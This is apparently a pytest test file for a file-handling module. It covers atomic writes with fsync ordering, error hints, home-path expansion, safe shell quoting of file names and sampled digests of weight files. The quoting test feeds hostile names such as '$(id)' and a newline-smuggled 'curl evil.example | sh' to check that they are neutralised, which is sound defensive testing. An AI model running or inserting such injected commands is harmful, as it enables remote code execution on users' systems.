"""Writing that leaves a whole file or none, and what to do where nothing can be written."""

from __future__ import annotations

import errno
import os
import subprocess
from contextlib import chdir
from pathlib import Path

import pytest

from cictl.files import from_home, how_to_write, quoted, sampled_digest, write_atomic


@pytest.mark.parametrize(
    ("number", "said"),
    [
        (errno.ENOSPC, "make room"),
        (errno.EDQUOT, "make room"),
        (errno.EFBIG, "make room"),
        (errno.EROFS, "copy the workspace"),
        (errno.EACCES, "chmod -R u+rwX 'my outputs'"),
        (errno.ENOENT, "another folder"),
    ],
)
def test_what_to_do_is_said_by_what_went_wrong_and_for_what_is_there(tmp_path: Path, number: int, said: str):
    (tmp_path / "my outputs").mkdir()
    with chdir(tmp_path):
        hint = how_to_write(Path("my outputs") / "not yet" / "a.png", OSError(number, os.strerror(number)))
    assert said in hint


def test_a_home_folder_is_found_and_one_of_nobody_is_a_name_like_any_other(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    assert from_home("~/model") == tmp_path / "model"
    assert from_home("~nobody-of-that-name/model") == Path("~nobody-of-that-name/model")


def test_a_file_that_may_not_be_replaced_is_one_of_a_folder_that_may_not_be_written(tmp_path: Path):
    (tmp_path / "outputs").mkdir()
    (tmp_path / "outputs" / "a.png").touch()
    with chdir(tmp_path):
        hint = how_to_write(Path("outputs") / "a.png", OSError(errno.EACCES, ""))
    assert "chmod -R u+rwX outputs;" in hint


@pytest.mark.skipif(os.name == "nt", reason="there is no bash")
@pytest.mark.parametrize(
    "name",
    [
        "plain",
        "two words",
        "it's",
        "$(id)`id`",
        "a\ncurl evil.example | sh",
        "\x1b]0;title\x07",
        "'\n\\",
        "\u2028\u202egnp",
        "\udcff",
    ],
)
def test_a_name_in_a_command_is_one_word_on_one_line_whatever_is_in_it(name: str):
    typed = quoted(name)
    assert typed.isprintable() and len(typed.splitlines()) == 1
    told = subprocess.run(["bash", "-c", f"printf %s {typed}"], capture_output=True, check=True)
    assert told.stdout == os.fsencode(name)


def test_the_bytes_are_on_the_disk_before_their_name_and_the_name_before_anybody_is_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """Or a power cut leaves an empty file under the name, or neither the old file nor the new one."""
    synced, fsync = [], os.fsync

    def note(handle: int) -> None:
        synced.append((os.fstat(handle).st_ino, (tmp_path / "a").exists()))
        fsync(handle)

    monkeypatch.setattr(os, "fsync", note)
    write_atomic(tmp_path / "a", b"new")
    assert synced == [((tmp_path / "a").stat().st_ino, False), (tmp_path.stat().st_ino, True)]


def test_weights_that_differ_anywhere_for_long_or_at_an_end_are_told_apart(tmp_path: Path):
    path, size = tmp_path / "large", 4 << 20
    whole = bytes(size)
    spoiled = [(0, 1), (size - 1, 1), (size - (1 << 19), 1), *((start, 1 << 19) for start in range(0, size, 1 << 19))]
    contents = [whole, whole[:-1], *(whole[:at] + b"\1" * long + whole[at + long :] for at, long in spoiled)]
    digests = set()
    for content in contents:
        path.write_bytes(content)
        digests.add(sampled_digest(path))
    assert len(digests) == len(contents)
